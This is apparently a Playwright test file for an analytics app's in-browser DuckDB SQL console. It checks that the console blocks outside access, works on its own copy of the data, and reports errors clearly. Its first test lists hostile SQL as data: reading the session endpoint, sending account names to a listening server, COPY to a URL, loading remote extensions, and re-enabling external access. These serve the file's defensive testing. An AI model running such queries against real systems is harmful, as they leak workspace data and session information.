import { createServer, type Server } from "node:http";
import { fixtureAsOf } from "../../analytics/test-support/fixture.js";
import { writeFixture } from "./analyticsHelpers.js";
import { expect, test } from "./fixtures.js";

/*
 * The SQL console is closed to the outside and works on its own copy of the data, in real
 * Chromium with the real app: a saved query someone shares can neither read the signed-in
 * person's session nor send the workspace's data to a URL, and nothing run in the console moves
 * a dashboard figure.
 */

/** A server on 127.0.0.1 that counts every request: "any URL" an attacker could name. */
async function listeningPost(): Promise<{ url: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server: Server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.setHeader("Access-Control-Allow-Origin", "*");
    res.end("name\nstolen\n");
  });
  await new Promise<void>((ok) => server.listen(0, "127.0.0.1", ok));
  const url = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
  return { url, hits, close: () => new Promise((ok) => server.close(() => ok())) };
}

test("the console refuses URLs, files, extensions and settings with a clear message; a dropped CSV still queries", async ({
  a,
  ada,
  server,
}) => {
  const post = await listeningPost();
  try {
    await writeFixture(a);
    await ada.sql.open();
    await expect(a.getByText(/On this device: accounts 6/)).toBeVisible({ timeout: 30_000 });
    const alert = a.getByRole("alert");

    // The signed-in person's session, same origin: refused, nothing shown but the refusal.
    await ada.sql.run(`SELECT * FROM read_text('${server.url}/api/session')`);
    await expect(alert).toContainText("The console only works on this device's copy of your data");
    await expect(alert).toContainText("Permission Error");
    await expect(alert).toContainText("at line 1, column 15");
    await expect(ada.sql.result).toHaveCount(0);

    for (const sql of [
      `SELECT * FROM read_csv('${post.url}/x.csv')`,
      `SELECT * FROM read_text('${post.url}/?names=' || (SELECT string_agg(name, ',') FROM accounts))`,
      `SELECT * FROM '${post.url}/x.csv'`,
      `INSTALL httpfs FROM '${post.url}/'`,
      "LOAD httpfs",
      `LOAD '${post.url}/httpfs.duckdb_extension.wasm'`,
      `ATTACH '${post.url}/x.db' AS remote`,
      `COPY (SELECT name FROM accounts) TO '${post.url}/steal.csv'`,
      "SET enable_external_access = true",
      "SET lock_configuration = false",
    ]) {
      await ada.sql.run(`SELECT 'before' AS marker; ${sql}`);
      await expect(alert, sql).toContainText("DuckDB reported an error");
      await expect(ada.sql.result, sql).toHaveCount(0);
    }
    expect(post.hits).toEqual([]);

    // What the person drops in is read.
    const dataTransfer = await a.evaluateHandle(() => {
      const dt = new DataTransfer();
      dt.items.add(new File(["account_id,target\r\nA,5000\r\nD,7000\r\n"], "Targets.csv", { type: "text/csv" }));
      return dt;
    });
    await a.getByTestId("sql-console").dispatchEvent("drop", { dataTransfer });
    await expect(a.getByText("Targets.csv is now table targets (2 rows).")).toBeVisible();
    await ada.sql.run("SELECT a.name, t.target FROM targets t JOIN accounts a ON a.id = t.account_id ORDER BY 2");
    await expect(ada.sql.result.getByRole("row", { name: "Acme 5000" })).toBeVisible();
    await expect(ada.sql.result.getByRole("row", { name: "Umbrella 7000" })).toBeVisible();
    expect(post.hits).toEqual([]);
  } finally {
    await post.close();
  }
});

test("the console works on a copy: DELETE and DROP VIEW there leave the dashboards' figures; Reset takes a fresh copy", async ({
  a,
  ada,
}) => {
  await writeFixture(a);
  await ada.shell.goTo("Analytics");
  await a.getByLabel("As of").fill(fixtureAsOf);
  await a.getByLabel(/Churn window/).fill("90");
  await a.getByRole("button", { name: "Apply" }).click();
  const cltv = a.getByRole("region", { name: "Customer lifetime value", exact: true });
  const risk = a.getByRole("region", { name: "Churn risk", exact: true });
  await expect(cltv).toContainText("265.77");
  await expect(risk.getByRole("cell", { name: "Acme" })).toBeVisible();

  await a.getByRole("link", { name: "SQL console" }).click();
  await expect(ada.sql.editor).toBeVisible({ timeout: 60_000 });
  const copy = a.getByTestId("console-copy");
  await expect(copy).toContainText("The console works on its own copy of your data");
  await ada.sql.run("SELECT count(*) AS n FROM accounts");
  await expect(ada.sql.result.getByRole("cell", { name: "6", exact: true })).toBeVisible();
  await ada.sql.run(
    "DELETE FROM accounts; DROP VIEW churn_risk; UPDATE orders SET total = 0; SELECT count(*) AS n FROM accounts",
  );
  await expect(ada.sql.result.getByRole("cell", { name: "0", exact: true })).toBeVisible();

  // The dashboards read their own database: every figure as before.
  await a.getByRole("link", { name: "Dashboards" }).click();
  await expect(cltv).toContainText("265.77");
  await expect(risk.getByRole("cell", { name: "Acme" })).toBeVisible();
  await expect(risk.getByRole("alert")).toHaveCount(0);

  // Back in the console, its changed copy is still there until reset.
  await a.getByRole("link", { name: "SQL console" }).click();
  await ada.sql.run("SELECT count(*) AS n FROM accounts");
  await expect(ada.sql.result.getByRole("cell", { name: "0", exact: true })).toBeVisible();
  await ada.sql.run("SELECT * FROM churn_risk");
  await expect(a.getByRole("alert")).toContainText("churn_risk does not exist");

  await a.getByRole("button", { name: "Reset console data" }).click();
  await expect(a.getByText("The console now works on a fresh copy of your data.")).toBeVisible({ timeout: 30_000 });
  await ada.sql.run("SELECT count(*) AS n FROM accounts");
  await expect(ada.sql.result.getByRole("cell", { name: "6", exact: true })).toBeVisible();
  await ada.sql.run("SELECT count(*) AS n FROM churn_risk WHERE account_id = 'A'");
  await expect(ada.sql.result.getByRole("cell", { name: "1", exact: true })).toBeVisible();

  // A record edited after the copy: the console says its copy is behind, and a reset catches up.
  await writeFixture(a, { accounts: [{ id: "Z", name: "Zeta", status: "prospect", createdAt: 1, updatedAt: 1 }] });
  await expect(copy).toContainText("Your records have changed since then.", { timeout: 30_000 });
  await a.getByRole("button", { name: "Reset console data" }).click();
  await expect(copy).not.toContainText("Your records have changed since then.", { timeout: 30_000 });
  await ada.sql.run("SELECT count(*) AS n FROM accounts");
  await expect(ada.sql.result.getByRole("cell", { name: "7", exact: true })).toBeVisible();
});

test("a syntax error is shown like any other error, at its line and column, never as raw JSON", async ({ a, ada }) => {
  await ada.sql.open();
  await ada.sql.run("SELECT 1;\nSELEC name FROM accounts");
  const alert = a.getByRole("alert");
  await expect(alert).toContainText("DuckDB reported an error at line 2, column 1");
  await expect(alert).toContainText('Parser Error: syntax error at or near "SELEC"');
  await expect(alert).not.toContainText("exception_type");
  await expect(alert).not.toContainText("{");
  await expect(a.locator(".cm-lintRange-error")).toHaveText("SELEC");

  await ada.sql.run("SELECT *\nFROM accounts\nWHERE");
  await expect(alert).toContainText("at line 3, column 6");
  await expect(alert).toContainText("Parser Error: syntax error at end of input");
  await expect(alert).not.toContainText("exception_type");

  // In Chinese, the same error with the page's words around DuckDB's.
  await ada.shell.setLanguage("zh");
  await ada.sql.run("SELECT '名字' AS 名字 FROMM accounts");
  await expect(alert).toContainText("位于第 1 行第 19 列");
  await expect(alert).toContainText('syntax error at or near "FROMM"');
});
